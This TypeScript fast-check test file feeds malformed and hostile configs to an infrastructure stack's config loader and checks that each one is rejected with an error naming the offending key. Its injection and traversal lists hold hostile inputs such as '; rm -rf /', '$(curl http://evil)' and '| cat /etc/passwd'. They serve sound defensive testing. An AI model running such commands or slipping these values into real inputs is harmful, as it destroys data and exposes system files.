// Bad input at scale: fast-check generates malformed and hostile configs (wrong types, out-of-range numbers, bad
// names, path traversal, injection-looking strings, missing and unknown keys) from a valid one. Each must be rejected
// with a message naming the offending key, register nothing, and never escape as anything but a ConfigError.
import * as assert from "node:assert/strict";
import { inspect } from "node:util";
import fc from "fast-check";
import { runProgram } from "../../offline/program";
import { ConfigError, configKey } from "../../stacks/load";
import { baseConfig, ConfigObject, stackInput } from "../support/stacks";

type Path = (string | number)[];
type Kind = "int" | "bool" | "enum" | "string" | "list" | "object";

interface Leaf {
    path: Path;
    kind: Kind;
    /** For ints: the allowed range. */
    range?: [number, number];
    /** For enums: the allowed values. */
    values?: string[];
    /** For strings: fragments the field must refuse (any one makes the value invalid). */
    refuse?: string[];
    /** Top-level plain strings arrive as text whatever their YAML type, so only structural type errors apply. */
    text?: boolean;
    required?: boolean;
}

const INJECTIONS = [
    "; rm -rf /",
    "$(curl http://evil)",
    "`id`",
    "' OR '1'='1",
    '"; drop table',
    "| cat /etc/passwd",
    "\n\tinjected: true",
    "${HOME}",
    "\u0000",
];
const TRAVERSAL = ["../", "/..", "/etc/passwd", "\\windows", "./a/../../b", "~/", "..", "./x/..\\y"];
const BAD_NAME = [...INJECTIONS, " ", "_", "/", "A", "..", "é"];

const LEAVES: Leaf[] = [
    { path: ["environment"], kind: "enum", values: ["dev", "prod"], text: true, required: true },
    { path: ["location"], kind: "string", refuse: [...INJECTIONS, " ", "-", "_", "W"], text: true, required: true },
    { path: ["clusterName"], kind: "string", refuse: BAD_NAME, text: true, required: true },
    { path: ["resourceGroupName"], kind: "string", refuse: ["/", "$", "`", ";", "|", "\n", "'", '"', " "], text: true },
    { path: ["aks", "kubernetesVersion"], kind: "string", refuse: [...INJECTIONS, "latest", "v", "x"] },
    { path: ["aks", "skuTier"], kind: "enum", values: ["Free", "Standard", "Premium"] },
    { path: ["aks", "adminGroups", 0], kind: "string", refuse: ["\n", "\t", "\r\n"] },
    { path: ["aks", "systemPool", "minCount"], kind: "int", range: [1, 5] },
    { path: ["aks", "systemPool", "maxCount"], kind: "int", range: [1, 1000] },
    { path: ["aks", "userPool", "maxPods"], kind: "int", range: [50, 250] },
    { path: ["aks", "userPool", "vmSize"], kind: "string", refuse: INJECTIONS },
    { path: ["aks", "userPool", "osDiskType"], kind: "enum", values: ["Ephemeral", "Managed"] },
    { path: ["aks", "userPool", "availabilityZones"], kind: "list" },
    { path: ["aks", "network", "podCidr"], kind: "string", refuse: [...INJECTIONS, "/33", ".256", "x"] },
    { path: ["aks", "network", "networkPolicy"], kind: "enum", values: ["cilium", "azure", "calico"] },
    { path: ["aks", "network", "egress", "publicIpPrefixLength"], kind: "int", range: [28, 31] },
    { path: ["aks", "apiServer", "authorizedIpRanges", 0], kind: "string", refuse: [...INJECTIONS, "/40", "x"] },
    { path: ["aks", "apiServer", "privateCluster"], kind: "bool" },
    { path: ["aks", "upgradeChannel"], kind: "enum", values: ["none", "patch", "stable", "rapid", "node-image"] },
    {
        path: ["aks", "maintenance", "autoUpgrade", "startTime"],
        kind: "string",
        refuse: [...INJECTIONS, "25", ":99", "x"],
    },
    { path: ["aks", "maintenance", "nodeOs", "durationHours"], kind: "int", range: [4, 24] },
    { path: ["aks", "imageCleanerIntervalHours"], kind: "int", range: [24, 2160] },
    {
        path: ["sops", "vaultName"],
        kind: "string",
        refuse: [...BAD_NAME.filter((f) => f !== "A"), "--", ".", "_"],
        required: true,
    },
    { path: ["sops", "keySize"], kind: "enum", values: ["3072", "4096"] },
    { path: ["sops", "softDeleteRetentionDays"], kind: "int", range: [7, 90] },
    { path: ["sops", "purgeProtection"], kind: "bool" },
    { path: ["sops", "allowedIpRanges", 0], kind: "string", refuse: [...INJECTIONS, "10.0.0.0/8", "x"] },
    { path: ["sops", "rotation", "expireAfter"], kind: "string", refuse: [...INJECTIONS, "PT", "Q", "x"] },
    {
        path: ["flux", "git", "url"],
        kind: "string",
        refuse: [" ", "'", '"', "$(id)", "`id`", "\\", "\n"],
        required: true,
    },
    { path: ["flux", "git", "branch"], kind: "string", refuse: [...INJECTIONS, " ", "~", ":", "^"] },
    { path: ["flux", "git", "syncIntervalSeconds"], kind: "int", range: [60, 86400] },
    {
        path: ["flux", "kustomizations", "cluster", "path"],
        kind: "string",
        refuse: [...TRAVERSAL, ...INJECTIONS],
        required: true,
    },
    { path: ["flux", "kustomizations", "cluster", "prune"], kind: "bool" },
    { path: ["flux", "kustomizations", "cluster", "dependsOn"], kind: "list" },
    { path: ["flux", "extensionVersion"], kind: "string", refuse: [...INJECTIONS, "latest", "v1", "x"] },
    { path: ["fleet", "apps", 0], kind: "string", refuse: [...BAD_NAME, "My App"] },
    { path: ["fleet", "renderDirectory"], kind: "string", refuse: ["/..", "\\", "~", "//", ...INJECTIONS] },
    { path: ["logs", "retentionDays"], kind: "int", range: [30, 730] },
];

interface Mutation {
    describe: string;
    apply: (config: ConfigObject) => void;
    /** Key the rejection must name, and a fragment its message must contain (for unknown keys). */
    expectKey: Path;
    expectText?: string;
}

function parentOf(config: ConfigObject, path: Path, create = true): Record<string | number, unknown> {
    let node: Record<string | number, unknown> = config;
    path.slice(0, -1).forEach((part, i) => {
        if (node[part] === undefined && create) {
            node[part] = typeof path[i + 1] === "number" ? [] : {};
        }
        node = node[part] as Record<string | number, unknown>;
    });
    return node;
}

const set = (path: Path, value: unknown) => (config: ConfigObject) => {
    parentOf(config, path)[path[path.length - 1]] = value;
};

const structural = fc.oneof(
    fc.constant([1, 2]),
    fc.constant({ nested: "x" }),
    fc.array(fc.string(), { maxLength: 2 }).map((a) => ({ a })),
);
const wrongScalar = fc.oneof(
    fc.string({ maxLength: 8 }).map((s) => `s${s}`),
    fc.boolean(),
    fc.constant(null),
    structural,
);

// One arbitrary per leaf, built once: building fc.stringMatching is what costs (it tokenizes and pre-slices), not
// drawing from it; an arbitrary is stateless, so reusing it draws exactly the same values for the same seed.
const invalidValues = new Map<Leaf, fc.Arbitrary<unknown>>();
function invalidValue(leaf: Leaf): fc.Arbitrary<unknown> {
    let arbitrary = invalidValues.get(leaf);
    if (!arbitrary) {
        arbitrary = buildInvalidValue(leaf);
        invalidValues.set(leaf, arbitrary);
    }
    return arbitrary;
}

function buildInvalidValue(leaf: Leaf): fc.Arbitrary<unknown> {
    switch (leaf.kind) {
        case "int": {
            const [min, max] = leaf.range!;
            return fc.oneof(
                fc.integer({ min: -1e9, max: min - 1 }),
                fc.integer({ min: max + 1, max: 1e9 }),
                fc.double({ min: min + 0.01, max: max - 0.01, noNaN: true }).filter((d) => !Number.isInteger(d)),
                fc.constantFrom(Number.MAX_SAFE_INTEGER, -0.5),
                wrongScalar.filter((v) => typeof v !== "number"),
            );
        }
        case "bool":
            return fc.oneof(fc.constantFrom("true", "yes", 1, 0), fc.constant(null), structural);
        case "enum":
            return leaf.text
                ? structural
                : fc.oneof(
                      fc.string({ maxLength: 12 }).filter((s) => !leaf.values!.includes(s)),
                      fc.constantFrom(...INJECTIONS),
                      fc.constantFrom(...leaf.values!.map((v) => v.toUpperCase() + "x")),
                      fc.integer(),
                      structural,
                  );
        case "string": {
            const hostile = fc
                .tuple(fc.stringMatching(/^[a-z][a-z0-9]{2,10}$/), fc.constantFrom(...leaf.refuse!), fc.boolean())
                .map(([base, bad, front]) => (front ? `${bad}${base}` : `${base}${bad}`));
            return leaf.text
                ? fc.oneof(hostile, structural)
                : fc.oneof(
                      hostile,
                      fc.integer(),
                      fc.boolean(),
                      structural,
                      fc.string({ minLength: 1000, maxLength: 1200 }),
                  );
        }
        case "list":
            return fc.oneof(fc.string(), fc.integer(), fc.constant({ not: "a list" }));
        case "object":
            return fc.oneof(fc.string(), fc.integer(), fc.constant([1]));
    }
}

const UNKNOWN_KEYS = ["__proto__", "constructor", "sytemPool", "$(whoami)", "a;b", "../../x", "Environment"];
const OBJECTS: Path[] = [
    [],
    ["aks"],
    ["aks", "systemPool"],
    ["aks", "network"],
    ["sops"],
    ["flux"],
    ["flux", "git"],
    ["fleet"],
];

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    {
        weight: 6,
        arbitrary: fc.constantFrom(...LEAVES).chain((leaf) =>
            invalidValue(leaf).map((value) => ({
                describe: `${configKey(leaf.path)} = ${JSON.stringify(value)?.slice(0, 60)}`,
                apply: set(leaf.path, value),
                expectKey: leaf.path,
            })),
        ),
    },
    {
        weight: 1,
        arbitrary: fc.constantFrom(...LEAVES.filter((l) => l.required)).map((leaf) => ({
            describe: `${configKey(leaf.path)} missing`,
            apply: (config: ConfigObject) =>
                void delete parentOf(config, leaf.path, false)[leaf.path[leaf.path.length - 1]],
            expectKey: leaf.path,
        })),
    },
    {
        weight: 1,
        arbitrary: fc
            .tuple(fc.constantFrom(...OBJECTS), fc.constantFrom(...UNKNOWN_KEYS), wrongScalar)
            .map(([at, key, value]) => ({
                describe: `unknown key ${configKey([...at, key])}`,
                apply: (config: ConfigObject) => {
                    const parent =
                        at.length === 0 ? config : (parentOf(config, [...at, "x"]) as Record<string, unknown>);
                    Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
                },
                expectKey: at,
                expectText: JSON.stringify(key),
            })),
    },
);

describe("bad input, tried at scale (fast-check)", function () {
    this.timeout(120000);

    it("rejects 1,200 malformed or hostile configs naming the key, registering nothing", async () => {
        let runs = 0;
        await fc.assert(
            fc.asyncProperty(fc.constantFrom("dev" as const, "prod" as const), mutation, async (environment, m) => {
                runs++;
                // Round-trip through JSON like Pulumi's config transport (and so __proto__ stays a plain own key).
                const config = JSON.parse(JSON.stringify(baseConfig(environment))) as ConfigObject;
                m.apply(config);
                const c = await runProgram(stackInput(config), { allowFailure: true });
                assert.ok(
                    c.error instanceof ConfigError,
                    `${m.describe}: expected a ConfigError, got ${c.error === undefined ? "no error" : inspect(c.error)}`,
                );
                assert.equal(c.resources.length, 0, `${m.describe}: registered ${c.resources.length} resources`);
                const wanted = configKey(m.expectKey);
                const named = c.error.issues.some(
                    (i) =>
                        configKey(i.path) === wanted &&
                        (m.expectText === undefined || i.message.includes(m.expectText)),
                );
                assert.ok(named, `${m.describe}: no problem names ${wanted}; got:\n${c.error.message}`);
            }),
            { numRuns: 1200, seed: 20261124 },
        );
        assert.equal(runs, 1200);
    });
});
